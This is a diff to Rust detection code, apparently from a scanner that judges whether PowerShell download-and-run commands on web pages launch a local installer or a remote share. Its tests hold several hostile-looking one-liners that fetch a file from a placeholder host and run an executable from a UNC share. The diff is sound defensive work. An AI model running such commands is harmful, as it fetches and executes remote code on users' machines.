@@ -1242,12 +1242,16 @@ impl PageHits {
                     .is_some_and(owns))
             // A local path (`.\x.exe`, `$env:TEMP\x.exe`): no share, protocol or variable.
             && !path.starts_with('\\')
+            && !has(path, "\\\\")
             && !has(path, ":")
             && !has(path, "/")
             && !has(path, "$")
-            // Started as saved (or without its `.\`), by msiexec or itself, with install flags.
+            // The saved path itself (or without its `.\`: `msiexec /i setup.msi`), never a part of it
+            // (`-OutFile x\\host\s\r.exe; Start-Process \\host\s\r.exe`: review 31 CF-H1), started
+            // by itself or msiexec, with install flags.
             && run.iter().all(|t| {
-                file.ends_with(t)
+                t == file
+                    || file.strip_prefix(".\\") == Some(*t)
                     || has_word(
                         "msiexec msiexec.exe -filepath -wait -argumentlist /i /qn /quiet /passive /norestart",
                         t,
@@ -3854,6 +3858,10 @@ mod tests {
              Start-Process \\\\kit.test\\s\\r.exe",
             "Invoke-WebRequest -Uri https://rosebakery-cdn.test/r -OutFile ms-msdt:/id; \
              Start-Process ms-msdt:/id",
+            "Invoke-WebRequest -Uri https://rosebakery-cdn.test/r -OutFile \
+             x\\\\kit.test\\d\\r.exe; Start-Process \\\\kit.test\\d\\r.exe",
+            "Invoke-WebRequest -Uri https://rosebakery-cdn.test/r -OutFile \
+             x\\\\203.0.113.44\\d\\r.exe; Start-Process \\\\203.0.113.44\\d\\r.exe",
             "Invoke-WebRequest -Uri https://rosebakery-cdn.test/r -OutFile .\\r.exe; Start-Process \
              powershell -ArgumentList .\\r.exe",
         ] {
